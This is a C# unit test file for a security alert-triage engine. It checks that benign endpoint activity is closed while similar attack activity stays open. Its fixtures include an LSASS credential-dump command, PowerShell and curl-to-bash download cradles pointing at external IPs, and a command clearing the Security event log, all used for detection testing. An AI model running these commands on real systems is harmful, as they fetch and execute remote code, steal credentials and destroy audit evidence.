using System.Text.Json;
using Verdict.Analysis;

namespace Verdict.Tests.Analysis.Families;

/// <summary>
/// Endpoint alerts whose process sits nested in the product's record (Graph alerts_v2 evidence[], SentinelOne
/// threatInfo), and the explanations read from who raised them: each benign case closes, the attack like it does not.
/// </summary>
public sealed class EndpointProvenanceTests
{
    private static Assessment Assess(object input) =>
        FamilyFixtures.Triage([new FamilyFixture("e0", JsonSerializer.Serialize(input), true, "")])[0].Assessment!;

    /// <summary>A Defender XDR alert (Graph security alerts_v2) with process, device and IP evidence.</summary>
    private static object Graph(string title, string account, string commandLine, string file, string parent, string ip) => new
    {
        id = "da0000000000000001", title, severity = "low", status = "new", serviceSource = "microsoftDefenderForEndpoint",
        createdDateTime = "2026-11-17T10:31:44Z",
        evidence = new object[]
        {
            new Dictionary<string, object> { ["@odata.type"] = "#microsoft.graph.security.deviceEvidence", ["verdict"] = "unknown", ["deviceDnsName"] = "fs-01.globex.com" },
            new Dictionary<string, object>
            {
                ["@odata.type"] = "#microsoft.graph.security.processEvidence", ["verdict"] = "unknown", ["processCommandLine"] = commandLine,
                ["imageFile"] = new { fileName = file, filePath = @"C:\Windows\System32\" }, ["parentProcessImageFile"] = new { fileName = parent, filePath = @"C:\Windows\System32\" },
                ["userAccount"] = new { accountName = account, domainName = "GLOBEX" },
            },
            // Defender gives the remote source the "attacker" role, a scanner included.
            new Dictionary<string, object> { ["@odata.type"] = "#microsoft.graph.security.ipEvidence", ["roles"] = new[] { "attacker" }, ["verdict"] = "unknown", ["ipAddress"] = ip },
        },
    };

    private static Dictionary<string, object> Elastic(string user, string commandLine, string parentExecutable, string parentCommandLine, string time = "2026-11-17T11:20:08Z",
        string executable = @"C:\Windows\System32\wevtutil.exe") => new Dictionary<string, object>
    {
        ["@timestamp"] = time, ["kibana.alert.rule.name"] = "Clearing Windows Event Logs", ["kibana.alert.severity"] = "medium",
        ["host"] = new { name = "GX-KIOSK-0088" }, ["user"] = new { name = user },
        ["process"] = new
        {
            executable, name = Path.GetFileName(executable.Replace('\\', '/')), command_line = commandLine,
            parent = new { executable = parentExecutable, name = Path.GetFileName(parentExecutable.Replace('\\', '/')), command_line = parentCommandLine },
        },
    };

    [Fact]
    public void A_listed_service_account_from_the_listed_scanner_is_a_credentialed_scan_but_not_from_elsewhere_nor_when_it_dumps_lsass()
    {
        var scan = Assess(Graph("Suspicious remote registry activity", "svc-backup", @"reg query HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion /v ProductName", "reg.exe", "svchost.exe", "10.50.0.10"));
        Assert.Equal(Classification.Benign, scan.Classification);
        Assert.Contains(scan.Evidence, e => e.Key == "credentialed_scan");

        var elsewhere = Assess(Graph("Suspicious remote registry activity", "svc-backup", @"reg query HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion /v ProductName", "reg.exe", "svchost.exe", "10.7.7.7"));
        Assert.NotEqual(Classification.Benign, elsewhere.Classification);
        Assert.DoesNotContain(elsewhere.Evidence, e => e.Key == "credentialed_scan");

        var service = Assess(Graph("Lateral movement using remote service creation", "svc-backup", @"C:\Windows\rssvc.exe", "rssvc.exe", "services.exe", "10.7.7.7"));
        Assert.NotEqual(Classification.Benign, service.Classification);
        Assert.Contains(service.Evidence, e => e.Key == "product_names_attacker");

        var dump = Assess(Graph("Suspicious access to LSASS service", "svc-backup", @"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 724 C:\Windows\Temp\l.dmp full", "rundll32.exe", "cmd.exe", "10.50.0.10"));
        Assert.NotEqual(Classification.Benign, dump.Classification);
        Assert.Contains(dump.Evidence, e => e.Key == "credential_dumping");
    }

    [Fact]
    public void Sysprep_generalising_clears_logs_by_design_but_an_admin_clearing_the_security_log_from_powershell_is_not_closed()
    {
        var sysprep = Assess(Elastic("SYSTEM", "wevtutil.exe cl Application", @"C:\Windows\System32\Sysprep\sysprep.exe",
            @"C:\Windows\System32\Sysprep\sysprep.exe /generalize /oobe /shutdown /unattend:C:\Windows\Panther\unattend.xml"));
        Assert.Equal(Classification.Benign, sysprep.Classification);
        Assert.Contains(sysprep.Evidence, e => e.Key == "sysprep_generalize");

        // Inside the maintenance window and by a listed administrator: neither explains wiping the Security log.
        var cleared = Assess(Elastic("it.admin", "wevtutil.exe cl Security", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -nop", "2026-11-21T03:09:31Z"));
        Assert.NotEqual(Classification.Benign, cleared.Classification);
        Assert.Contains(cleared.Evidence, e => e.Key == "defence_evasion" && e.Weight > 1.0);
    }

    [Fact]
    public void SentinelOne_threat_confidence_softens_a_heuristic_class_name_and_a_malicious_rating_is_strong()
    {
        static Dictionary<string, object> S1(string classification, string confidence, string path, string args) => new Dictionary<string, object>
        {
            ["id"] = "1890000000000000001", ["rule_name"] = classification, // what the onboarding mapping makes of threatInfo.classification
            ["agentRealtimeInfo"] = new { agentComputerName = "GX-DEV-0031" },
            ["threatInfo"] = new
            {
                classification, confidenceLevel = confidence, mitigationStatus = "not_mitigated", filePath = path, originatorProcess = Path.GetFileName(path.Replace('\\', '/')),
                processUser = @"GLOBEX\mei.zhang", createdAt = "2026-11-17T10:31:44Z", commandLineArguments = args,
            },
        };
        var heuristic = Assess(S1("Trojan", "suspicious", @"\Device\HarddiskVolume3\Program Files\Nmap\nmap.exe", "-sS -p 22,443 10.20.0.0/22"));
        Assert.Contains(heuristic.Evidence, e => e.Key == "rule_names_threat" && !e.Strong);

        var known = Assess(S1("Malware", "malicious", @"\Device\HarddiskVolume3\Program Files\Nmap\nmap.exe", "-sS -p 22,443 10.20.0.0/22"));
        Assert.NotEqual(Classification.Benign, known.Classification);
        Assert.Contains(known.Evidence, e => e.Key == "product_rates_malicious" && e.Strong);
    }

    [Fact]
    public void The_mecm_task_sequence_enabling_rdp_on_a_new_build_is_deployment_but_a_download_cradle_under_it_is_not_closed()
    {
        const string EnableRdp = @"reg add ""HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server"" /v fDenyTSConnections /t REG_DWORD /d 0 /f";
        var build = Assess(Elastic("SYSTEM", EnableRdp, @"C:\_SMSTaskSequence\bin\TsManager.exe", "TsManager.exe", executable: @"C:\Windows\System32\reg.exe"));
        Assert.Equal(Classification.Benign, build.Classification);
        Assert.Contains(build.Evidence, e => e.Key == "deployment_tool");

        // The task sequence explains packaging, not a cradle fetching a script from the internet.
        var cradle = Assess(Elastic("SYSTEM", "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://45.148.10.81/a.ps1')\"",
            @"C:\_SMSTaskSequence\bin\TsManager.exe", "TsManager.exe", executable: @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"));
        Assert.NotEqual(Classification.Benign, cradle.Classification);
    }

    [Fact]
    public void SentinelOne_maliciousProcessArguments_is_read_as_the_command_line_when_commandLineArguments_is_absent()
    {
        // threats API v2.1 without commandLineArguments: the arguments the engine flagged are the command line.
        static object S1(string args) => new
        {
            id = "1890000000000000002",
            agentRealtimeInfo = new { agentComputerName = "GX-DEV-0032" },
            threatInfo = new
            {
                threatName = "powershell.exe", classification = "Malware", confidenceLevel = "suspicious", mitigationStatus = "not_mitigated",
                filePath = @"\Device\HarddiskVolume3\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", processUser = @"GLOBEX\mei.zhang",
                createdAt = "2026-11-17T10:31:44Z", maliciousProcessArguments = args,
            },
        };
        var cradle = Assess(S1("powershell.exe -nop -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')"));
        Assert.Contains(cradle.Evidence, e => e.Key is "download_cradle" or "download_and_execute");
        Assert.NotEqual(Classification.Benign, cradle.Classification);

        var plain = Assess(S1("powershell.exe -NoProfile -Command Get-Date"));
        Assert.DoesNotContain(plain.Evidence, e => e.Key is "download_cradle" or "download_and_execute");
    }

    [Fact]
    public void SentinelOne_catch_all_malware_class_rated_only_suspicious_is_the_products_low_rating_but_a_named_threat_or_cradle_stays_open()
    {
        static object S1(string threatName, string confidence, string path, string args, string? indicator = null) => new
        {
            id = "1890000000000000003",
            agentRealtimeInfo = new { agentComputerName = "GX-MAC-0007" },
            threatInfo = new
            {
                threatName, classification = "Malware", confidenceLevel = confidence, mitigationStatus = "not_mitigated",
                filePath = path, processUser = "mei.zhang", createdAt = "2026-11-17T10:31:44Z", commandLineArguments = args,
            },
            indicators = indicator is null ? Array.Empty<object>() : new object[] { new { category = indicator, description = "Behaviour the engine flagged" } },
        };
        // An installed app's helper doing its own work: the catch-all class on a 'suspicious' rating names no threat.
        var helper = Assess(S1("SyncHelper", "suspicious", "/Applications/Sync.app/Contents/MacOS/SyncHelper", "SyncHelper --check-updates"));
        Assert.Equal(Classification.Benign, helper.Classification);
        Assert.DoesNotContain(helper.Evidence, e => e.Key == "rule_names_threat");
        Assert.Contains(helper.Evidence, e => e.Key == "detector_severity" && e.Supports == Leaning.Benign);

        // The same class at the product's 'malicious' rating is its claim of a known threat.
        Assert.NotEqual(Classification.Benign, Assess(S1("SyncHelper", "malicious", "/Applications/Sync.app/Contents/MacOS/SyncHelper", "SyncHelper --check-updates")).Classification);
        // Adversarial: rated only suspicious, but its threat name names a threat.
        var beacon = Assess(S1("CobaltStrike.Beacon", "suspicious", "/Applications/Sync.app/Contents/MacOS/SyncHelper", "SyncHelper --check-updates"));
        Assert.NotEqual(Classification.Benign, beacon.Classification);
        Assert.Contains(beacon.Evidence, e => e.Key == "rule_names_threat");
        // Adversarial: rated only suspicious, but an indicator names exfiltration.
        var exfil = Assess(S1("SyncHelper", "suspicious", "/Applications/Sync.app/Contents/MacOS/SyncHelper", "SyncHelper --check-updates", "Exfiltration"));
        Assert.NotEqual(Classification.Benign, exfil.Classification);
        // Adversarial: rated only suspicious, but the command line is a download piped to a shell.
        var cradle = Assess(S1("bash", "suspicious", "/bin/bash", "bash -c \"curl -s http://198.51.100.23/x.sh | bash\""));
        Assert.NotEqual(Classification.Benign, cradle.Classification);
    }
}
